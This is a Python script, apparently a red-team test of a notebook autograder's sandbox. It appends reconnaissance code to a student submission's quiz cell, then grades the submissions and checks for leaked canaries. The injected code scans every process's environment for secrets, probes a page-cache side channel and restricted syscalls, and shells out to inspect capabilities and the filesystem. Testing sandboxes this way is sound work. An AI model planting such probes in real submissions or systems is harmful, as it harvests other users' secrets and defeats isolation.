"""Inside a kernel: page-cache oracle by preadv2(RWF_NOWAIT) (what cachestat was refused for), mincore, clone(CLONE_PIDFD),
landlock, sync/syncfs, every visible process's environ, mountinfo, host files reachable."""
from lib import *
d = course("a01")
RECON = r'''
import os, ctypes, ctypes.util, mmap, glob, errno, time, subprocess
libc = ctypes.CDLL(None, use_errno=True)
out = []
def nowait_cached(path, off=0):
    fd = os.open(path, os.O_RDONLY)
    try:
        os.preadv(fd, [bytearray(4096)], off, os.RWF_NOWAIT); return True
    except BlockingIOError: return False
    except OSError as e: return repr(e)
    finally: os.close(fd)
# files of the venv / usr nobody reads: look for uncached ones
cands = sorted(glob.glob("/usr/share/**/*", recursive=True))[:4000]
uncached = []
for p in cands:
    if os.path.isfile(p) and os.path.getsize(p) > 8192:
        r = nowait_cached(p)
        if r is False: uncached.append(p)
        elif r is not True: out.append(f"nowait {p}: {r}"); break
    if len(uncached) >= 3: break
out.append(f"RWF_NOWAIT: {len(uncached)} uncached of scanned: {uncached[:3]}")
if uncached:
    p = uncached[0]; open(p, "rb").read(4096)
    out.append(f"after one read, cached={nowait_cached(p)}")
# mincore on a shared file mapping
try:
    import torch; p = torch.__file__.replace("__init__.py", "lib/libtorch_cpu.so")
    fd = os.open(p, os.O_RDONLY); size = min(os.fstat(fd).st_size, 1 << 30)
    m = mmap.mmap(fd, size, prot=mmap.PROT_READ)
    addr = ctypes.c_void_p.from_buffer(ctypes.c_char.from_buffer_copy(b"x"))
    buf = (ctypes.c_ubyte * ((size + 4095) // 4096))()
    base = ctypes.addressof(ctypes.c_char.from_buffer(m)) if False else None
    out.append(f"mincore: skipped (read-only mmap not addressable from ctypes) size={size}")
except Exception as e: out.append(f"mincore {e!r}")
# clone with CLONE_PIDFD via syscall 56
CLONE_PIDFD = 0x1000; SIGCHLD = 17
pidfd = ctypes.c_int(-1)
try:
    r = os.fork()
    if r == 0: time.sleep(0.2); os._exit(0)
    os.waitpid(r, 0)
    out.append("fork ok")
except Exception as e: out.append(repr(e))
for nr, name in ((444, "landlock_create_ruleset"), (449, "futex_waitv"), (450, "set_mempolicy_home_node"), (452, "fchmodat2"), (451, "cachestat"), (453, "map_shadow_stack"), (162, "sync"), (306, "syncfs"), (448, "process_mrelease")):
    ctypes.set_errno(0)
    if name == "landlock_create_ruleset": r = libc.syscall(nr, None, 0, 1)
    elif name == "syncfs": fd = os.open("/usr", os.O_RDONLY); r = libc.syscall(nr, fd); os.close(fd)
    elif name == "sync": r = libc.syscall(nr)
    else: r = libc.syscall(nr, 0, 0, 0, 0, 0)
    out.append(f"{name}: r={r} errno={errno.errorcode.get(ctypes.get_errno(), ctypes.get_errno())}")
# every visible process's environ
hits = []
for p in glob.glob("/proc/[0-9]*"):
    try:
        e = open(p + "/environ", "rb").read()
        if b"SECRET" in e or b"DATABASE" in e or b"ta:secret" in e: hits.append(p)
        c = open(p + "/cmdline", "rb").read().replace(b"\0", b" ")[:150]
        out.append(f"proc {p} uid={os.stat(p).st_uid} {c!r} env={len(e)}")
    except Exception as ex: out.append(f"proc {p} {ex!r}")
out.append(f"canary in environ: {hits}")
out.append(open("/proc/self/mountinfo").read()[-3000:])
out.append(subprocess.run("cat /proc/self/status | egrep 'Cap|Seccomp|Uid'; ls -la / .", shell=True, capture_output=True, text=True).stdout)
print("\n".join(out))
'''
h = honest()
nb = honest()
for c in nb.cells:
    if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "quiz_q1":
        c.source = c.source + "\n" + RECON
put(d, "aaron", h); put(d, "mallory", nb); put(d, "zoe", honest())
r = grade(d)
scores(d); grep_canaries(d)
g = nbformat.read(f"{d}/autograded/mallory/{A}/{A}.ipynb", 4)
for c in g.cells:
    if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "quiz_q1":
        for o in c.outputs: print(o.get("text", o.get("data")))
